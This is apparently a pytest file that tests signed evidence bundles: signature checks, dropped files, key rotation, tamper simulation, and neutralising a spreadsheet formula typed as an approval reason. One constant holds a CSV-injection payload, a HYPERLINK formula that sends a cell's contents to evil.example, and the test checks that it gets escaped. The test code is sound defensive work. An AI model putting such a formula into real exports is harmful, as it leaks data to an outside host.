"""Signed evidence bundles against an editor of the zip, on SQLite and PostgreSQL: the
Ed25519 signature (public key alone), required core files, CSV rows recomputed from the
bundle's events, key rotation, and spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

from tests.enginekit import APPROVER_1, Rig
from tests.reportkit import PERIOD, drive_rollout
from workflows import audit
from workflows.db import Database
from workflows.reports import ReportRequest, build_bundle, verify_bundle

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def keypair(tmp_path: Path, name: str) -> tuple[audit.Signer, audit.PublicKey]:
    audit.generate_keypair(tmp_path / f"{name}.pem", tmp_path / f"{name}.pub")
    return audit.load_signer(tmp_path / f"{name}.pem"), audit.load_public_key(
        tmp_path / f"{name}.pub"
    )


def edit(
    src: Path,
    dst: Path,
    *,
    change: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    resign: audit.Signer | None = None,
) -> None:
    """What an editor of the zip can do: replace or drop members, make manifest.json agree
    (hashes, sizes, the file list) and sign it again with a key of its own."""
    change = change or {}
    with zipfile.ZipFile(src) as old:
        members = {i.filename: old.read(i.filename) for i in old.infolist()}
    members.update(change)
    for name in drop:
        members.pop(name, None)
    manifest = json.loads(members["manifest.json"])
    for name in list(manifest["files"]):
        if name not in members:
            del manifest["files"][name]
        else:
            data = members[name]
            manifest["files"][name]["sha256"] = hashlib.sha256(data).hexdigest()
            manifest["files"][name]["bytes"] = len(data)
    if resign is not None:
        manifest["signing"]["key_id"] = resign.key_id
    text = json.dumps(manifest, sort_keys=True, indent=2) + "\n"
    members["manifest.json"] = text.encode()
    if resign is not None:
        members["manifest.sig"] = json.dumps(
            {
                "algorithm": "ed25519",
                "key_id": resign.key_id,
                "signature": resign.sign(text.encode()),
            }
        ).encode()
    with zipfile.ZipFile(dst, "w") as new:
        for name, data in members.items():
            new.writestr(name, data)


def csv_rows(path: Path, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(path) as archive:
        return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def csv_text(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


async def signed_bundle(db: Database, tmp_path: Path, signer: audit.Signer) -> Path:
    await drive_rollout(db)
    bundle = await build_bundle(db, ReportRequest(PERIOD, signer=signer), tmp_path / "out")
    return bundle.path


async def test_a_signed_bundle_verifies_with_the_public_key_alone_and_its_rows_recompute(
    db: Database, tmp_path: Path
) -> None:
    signer, public = keypair(tmp_path, "signing")
    path = await signed_bundle(db, tmp_path, signer)
    result = verify_bundle(path, public_keys=[public])
    assert result.problems == []
    assert result.signed_by == public.key_id
    assert result.manifest is not None and result.manifest["signing"]["key_id"] == public.key_id


async def test_a_csv_and_its_manifest_edited_consistently_are_named_twice(
    db: Database, tmp_path: Path
) -> None:
    signer, public = keypair(tmp_path, "signing")
    forger, _ = keypair(tmp_path, "forger")
    path = await signed_bundle(db, tmp_path, signer)
    approvals = csv_rows(path, "approvals.csv")
    vote = next(i for i, r in enumerate(approvals) if r["decision"] == "approve")
    approvals[vote]["who"] = "U0MALLORY"
    runs = csv_rows(path, "host_runs.csv")
    prod6 = next(i for i, r in enumerate(runs) if r["host"] == "prod-06")
    runs[prod6]["result"] = "healthy"
    for resign in (None, forger):
        bad = tmp_path / f"edited-{resign is not None}.zip"
        edit(
            path,
            bad,
            change={"approvals.csv": csv_text(approvals), "host_runs.csv": csv_text(runs)},
            resign=resign,
        )
        problems = verify_bundle(bad, public_keys=[public]).problems
        if resign is None:
            assert "manifest.sig: the signature of manifest.json does not verify" in problems
        else:
            assert any(
                p.startswith(f"manifest.sig: signed by key id {forger.key_id}, not by")
                for p in problems
            )
        assert any(
            p.startswith(f"approvals.csv row {vote + 2} (gate ") and "U0MALLORY" in p
            for p in problems
        ), problems
        assert any(
            p.startswith(f"host_runs.csv row {prod6 + 2} (rollout ")
            and "result is 'healthy'" in p
            and "'rolled_back'" in p
            for p in problems
        ), problems
        # even verified without any key (no --public-key), the recompute names the rows
        unsigned = verify_bundle(bad).problems
        assert any("U0MALLORY" in p for p in unsigned)


async def test_dropped_core_files_are_named_even_when_the_manifest_agrees(
    db: Database, tmp_path: Path
) -> None:
    signer, public = keypair(tmp_path, "signing")
    path = await signed_bundle(db, tmp_path, signer)
    bad = tmp_path / "dropped.zip"
    edit(path, bad, drop=("coverage.csv", "events.jsonl", "manifest.sig"))
    problems = verify_bundle(bad).problems
    assert "coverage.csv: a core file is missing" in problems
    assert "events.jsonl: a core file is missing" in problems
    assert (
        "manifest.sig is missing: the bundle is not signed"
        in verify_bundle(bad, public_keys=[public]).problems
    )


async def test_a_bundle_signed_before_a_rotation_verifies_with_the_old_public_key(
    db: Database, tmp_path: Path
) -> None:
    old_signer, old_public = keypair(tmp_path, "old")
    _, new_public = keypair(tmp_path, "new")
    path = await signed_bundle(db, tmp_path, old_signer)
    assert verify_bundle(path, public_keys=[old_public]).ok
    assert verify_bundle(path, public_keys=[new_public, old_public]).ok
    assert not verify_bundle(path, public_keys=[new_public]).ok


async def test_a_formula_typed_as_a_reason_is_neutralised_and_still_recomputes(
    db: Database, tmp_path: Path
) -> None:
    signer, public = keypair(tmp_path, "signing")
    rig = Rig(db)
    rollout_id = await rig.start()
    await rig.engine().run_until_idle()
    gate = await rig.open_gate(rollout_id)
    assert gate is not None
    await rig.vote(gate, APPROVER_1, reason=HOSTILE)
    bundle = await build_bundle(db, ReportRequest(PERIOD, signer=signer), tmp_path / "out")
    vote = next(r for r in csv_rows(bundle.path, "approvals.csv") if r["who"] == APPROVER_1)
    assert vote["reason"] == "'" + HOSTILE
    assert verify_bundle(bundle.path, public_keys=[public]).problems == []
